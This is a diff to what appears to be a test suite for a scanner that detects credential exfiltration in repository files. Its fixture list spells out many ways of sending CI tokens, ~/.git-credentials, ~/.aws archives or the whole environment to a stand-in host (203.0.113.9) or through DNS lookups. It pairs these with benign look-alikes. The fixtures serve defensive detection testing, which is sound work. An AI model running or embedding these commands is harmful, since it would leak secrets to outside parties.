@@ -62,6 +62,41 @@ const ALREADY_REFUSED: FindingRow[] = closedRows([
   ['tests/x.test.js', "const p = await download(u);\nDeno.run({ cmd: ['sh', p] });"],
 ]);
 
+/** One secret sent in forms session 66 left open. */
+const ONE_SECRET_SENT: FindingRow[] = [
+  // The job's token read into a variable first, then sent (in a body, a query, set on a URL, a query built apart).
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nrequests.post(u, data=t)"],
+  ['tests/t.py', "t = os.getenv('GITHUB_TOKEN')\nrequests.get(u, params={'t': t})"],
+  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nawait fetch(u, { method: 'POST', body: t });"],
+  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nurl.searchParams.set('t', t);\nawait fetch(url);"],
+  ['test/a.test.js', "const { GITHUB_TOKEN: t } = process.env;\nawait fetch(u, { method: 'POST', body: t });"],
+  ['test/a.test.js', "const { CI, NPM_TOKEN } = process.env;\nawait fetch(u, { method: 'POST', body: NPM_TOKEN });"],
+  ['test/a.test.js', 'const q = new URLSearchParams({ t: process.env.NPM_TOKEN });\nawait fetch(`${u}?${q}`);'],
+  ['test/a.test.js', 'const t = process.env.NPM_TOKEN;\nconst q = new URLSearchParams({ t });\nawait fetch(`${u}?${q}`);'],
+  // In an f-string, a join, a `new URL(…)` given to fetch.
+  ['tests/t.py', 'urlopen(f\'{url}{os.environ["GITHUB_TOKEN"]}\')'],
+  ['tests/t.py', "requests.get('?t='.join([url, os.environ['GITHUB_TOKEN']]))"],
+  ['test/a.test.js', 'await fetch(new URL(`?t=${process.env.GITHUB_TOKEN}`, base))'],
+  // The shell: a here-string, backticks and printenv in curl's body, a credential directory archived from `-C ~`.
+  ['docs/debugging.md', 'curl -d @- https://203.0.113.9/c <<< "$GITHUB_TOKEN"'],
+  ['docs/debugging.md', 'curl -d "`cat ~/.git-credentials`" https://203.0.113.9/c'],
+  ['docs/debugging.md', 'curl -d "t=$(printenv GITHUB_TOKEN)" https://203.0.113.9/c'],
+  ['docs/debugging.md', 'tar -C ~ -cz .aws | curl -T - https://203.0.113.9/c'],
+  // The environment by env's path, an object rest or a body spread over lines, a value on the line after its `=`.
+  ['tests/t.py', "requests.post(u, data=subprocess.check_output(['/usr/bin/env']))"],
+  ['test/a.test.js', "const {\n  CI,\n  ...rest\n} = process.env;\nawait fetch(u, { method: 'POST', body: JSON.stringify(rest) });"],
+  ['test/a.test.js', "await fetch(u, {\n  method: 'POST',\n  body: JSON.stringify(process.env)\n});"],
+  ['tests/t.py', "requests.post(u, data=\n  os.environ['GITHUB_TOKEN'])"],
+  // A secret looked up by other means: a connection, ping, getent, Ruby's Resolv.
+  ['tests/t.py', "socket.create_connection((os.environ['API_TOKEN'] + '.example.net', 80))"],
+  ['docs/debugging.md', 'ping -c1 "$GITHUB_TOKEN.example.net"'],
+  ['docs/debugging.md', 'getent hosts "$NPM_TOKEN.example.net"'],
+  ['tests/t.rb', 'Resolv.getaddress("#{ENV[\'API_TOKEN\']}.example.net")'],
+  // Found attacking the reading: `%` and `.format`, axios' body as its second argument (attack 65's rows).
+  ['tests/t.py', "urlopen('https://203.0.113.9/c?t=%s' % os.environ['NPM_TOKEN'])"],
+  ['test/a.test.js', "await axios.put(u, { t: process.env.GITHUB_TOKEN })"],
+];
+
 /**
  * Open: a literal path written by `open(…, 'wb')` and given to a process call after its first word (`subprocess.run(['sh',
  * '/tmp/b'])`): the argument list is read as one command line only with its strings joined, where `open`'s mode joins the
@@ -77,6 +112,7 @@ describeFindings('attack 67', [
   ['a download\'s name handed on', closedRows(NAME_HANDED_ON)],
   ['other process calls', closedRows(OTHER_PROCESS_CALLS)],
   ['an alias called otherwise', closedRows(ALIASES_CALLED_OTHERWISE)],
+  ['one secret sent', closedRows(ONE_SECRET_SENT)],
   ['open', OPEN],
 ]);
 
@@ -93,6 +129,23 @@ describeAccepted('attack 67: ordinary code near the new readings', [
   ['tests/x.test.js', "const m = new Map([['a', 1]]);\nexpect(m.get('a')).toBe(1);"],
   ['tests/x.test.js', "const { execSync: /* sync */ run } = require('child_process');\nrun('git status');"],
   ['tests/t.py', 'class T:\n    def go(self, c):\n        return os.system(c)\nT().go("make test")'],
+  // A token held in a variable and sent in a header, to GitHub's API, to a client; a query of no secret.
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\nrequests.get(u, headers={'Authorization': f'token {token}'})"],
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\ngh = Github(token)\nrepo = gh.get_repo('o/r')"],
+  ['test/a.test.js', "const { GITHUB_TOKEN } = process.env;\nconst octokit = new Octokit({ auth: GITHUB_TOKEN });\nawait fetch(u, { method: 'POST', body: JSON.stringify({ ok: true }) });"],
+  ['test/a.test.js', "const token = process.env.GITHUB_TOKEN;\nawait fetch(u, { headers: { Authorization: `token ${token}` } });"],
+  ['test/a.test.js', "const q = new URLSearchParams({ page: '2' });\nawait fetch(`${u}?${q}`);"],
+  ['tests/t.py', "requests.get(f'{base}/user', headers={'Authorization': f'token {os.environ[\"GITHUB_TOKEN\"]}'})"],
+  ['tests/t.py', "url = '/'.join([base, 'items'])\nrequests.get(url)"],
+  ['docs/setup.md', 'curl -H "Authorization: token $(printenv GITHUB_TOKEN)" https://api.github.com/user'],
+  ['docs/setup.md', 'tar -C ~ -czf backup.tgz projects'],
+  ['tests/t.py', "out = subprocess.check_output(['/usr/bin/env', 'python3', 'tests/helper.py'])\nrequests.post(u, data=out)"],
+  ['docs/setup.md', 'ping -c1 "$DB_HOST" && getent hosts example.com'],
+  ['test/a.test.js', "await axios.post(u, { name: 'x' }, { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });"],
+  ['tests/t.py', "requests.get('{}/user'.format(base), headers={'Authorization': 'token %s' % os.environ['GITHUB_TOKEN']})"],
+  ['tests/t.py', "requests.get(f'{base}/items?page={page}', headers={'Authorization': f'token {os.environ[\"GITHUB_TOKEN\"]}'})"],
+  ['tests/t.py', "socket.create_connection((os.environ['DB_HOST'], 5432))"],
+  ['test/a.test.js', "const {\n  API_URL,\n  ...rest\n} = config;\nawait fetch(API_URL, { method: 'POST', body: JSON.stringify(rest) });"],
 ]);
 
 describe('attack 67: the new readings cost linear time', () => {
@@ -105,5 +158,11 @@ describe('attack 67: the new readings cost linear time', () => {
   it('checks many writes after a read in linear time', () => checksInLinearTime('tests/t.py', 'write after a read', "r = urlopen(u); open(p, 'wb').write(r.read()); "));
   it('checks many comments in a destructuring in linear time', () => checksInLinearTime('tests/x.test.js', 'commented destructuring', 'execSync: /* x */ /* y */ '));
   it('checks many member calls of an alias in linear time', () => checksInLinearTime('tests/x.test.js', 'member call', "const m = new Map([['r', require]]); m.get('r')(p).go(p)"));
+  it('checks many token carriers in linear time', () => checksInLinearTime('tests/t.py', 'credential carrier', "t = os.environ['GITHUB_TOKEN']; requests.post(u, data=t)\n"));
+  it('checks a long f-string in a request in linear time', () => checksInLinearTime('tests/t.py', 'f-string', "urlopen(f'{u}"));
+  it('checks many formatted requests in linear time', () => checksInLinearTime('tests/t.py', 'format and join', "requests.get('a'.join([u, '%s' % x, '{}'.format("));
+  it('checks many axios posts in linear time', () => checksInLinearTime('tests/x.test.js', 'axios body', 'axios.post(u, a, b, c, '));
+  it('checks many here-strings and archives in linear time', () => checksInLinearTime('docs/x.md', 'shell forms', 'curl -d @- <<< x tar -C ~ a .b getent hosts ping '));
+  it('checks many destructurings of the environment in linear time', () => checksInLinearTime('tests/x.test.js', 'destructured carrier', 'const { a, b: c } = process.env; {'));
   it('checks many Ruby command strings in linear time', () => checksInLinearTime('tests/t.rb', 'backticks', 'p = download_file(u)\n`sh #{p} %x(sh #{p}) $`'));
 });
